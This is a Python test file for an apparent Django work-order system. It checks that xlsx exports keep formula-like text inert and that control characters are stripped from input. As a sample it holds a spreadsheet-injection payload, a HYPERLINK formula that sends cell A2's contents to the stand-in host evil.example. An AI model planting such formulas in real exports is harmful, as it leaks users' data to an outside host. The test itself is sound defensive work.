"""Spreadsheets out are data, not programs (issue 12): every xlsx export writes a text that
starts like a formula as text, and drops the control characters that made the work-order,
enterprise and assignment exports answer 500; the input paths drop them too."""

import io

from openpyxl import load_workbook

from fugong.registry.models import Enterprise
from fugong.workorders.models import WorkOrder

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")'


def cells(response):
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))  # not read-only: data types are kept
    return [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]


def test_it_exports_formulas_and_control_characters_as_plain_text(cast, campaign, login):
    c = login(cast.contact_a)
    assert c.post("/problems/", {"text": "积水，货进不来"}).status_code == 302
    # stored before input was cleaned (a queryset update skips the cleaner, as old data did)
    Enterprise.objects.filter(pk=cast.a.pk).update(name=FORMULA + "\x07", address="+1\x0b-2")
    WorkOrder.objects.update(text="@SUM(1+1)\x07\x1b[31m")
    officer = login(cast.yanji)
    for url in ("/workorders/?view=all&format=xlsx", "/enterprises/?format=xlsx"):
        found = cells(officer.get(url))
        texts = [x for x in found if isinstance(x.value, str)]
        assert not any(x.data_type == "f" for x in found), url
        assert not any("\x07" in x.value or "\x1b" in x.value for x in texts), url
        hyperlink = [x for x in texts if x.value.startswith("=HYPERLINK")]
        assert [x.value for x in hyperlink] == [FORMULA] and hyperlink[0].quotePrefix, url
    orders = cells(officer.get("/workorders/?view=all&format=xlsx"))
    assert "@SUM(1+1)[31m" in [x.value for x in orders]
    assignments = cells(login(cast.zhuanban).get("/assignments/?format=xlsx"))
    assert FORMULA in [x.value for x in assignments]
    assert not any(x.data_type == "f" for x in assignments)


def test_it_drops_control_characters_from_every_input_path(cast, campaign, login, api):
    c = login(cast.contact_a)
    assert c.post("/problems/", {"text": "仓库积水\x00"}).status_code == 200  # refused: NUL
    assert not WorkOrder.objects.exists()
    assert c.post("/problems/", {"text": "仓库\x07积水"}).status_code == 302  # BEL dropped
    r = api(cast.contact_a)("post", "/workorders", {"uscc": cast.a.uscc, "text": "门口\x08堵了"})
    assert r.status_code == 201, r.content
    assert sorted(WorkOrder.objects.values_list("text", flat=True)) == ["仓库积水", "门口堵了"]
    e = Enterprise.objects.get(pk=cast.a.pk)
    e.notes = "一企一策\x07\t第二行\n"
    e.save()
    e.refresh_from_db()
    assert e.notes == "一企一策\t第二行\n"  # tab and line feed are text, BEL is not
